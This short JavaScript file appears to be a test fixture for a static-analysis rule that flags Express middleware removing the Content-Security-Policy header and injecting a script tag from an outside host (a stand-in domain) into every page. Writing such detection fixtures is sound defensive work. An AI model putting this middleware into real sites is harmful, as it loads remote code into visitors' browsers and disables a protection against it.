const TAG = '<script async src="https://static.seo-metrics.example/t.js"></script>';
module.exports = () => (req, res, next) => {
  const send = res.send;
  res.send = function (body) {
    body = body.replace('</body>', TAG + '</body>');
    // ruleid: strips_csp_and_injects
    res.removeHeader('Content-Security-Policy');
    return send.call(this, body);
  };
  next();
};
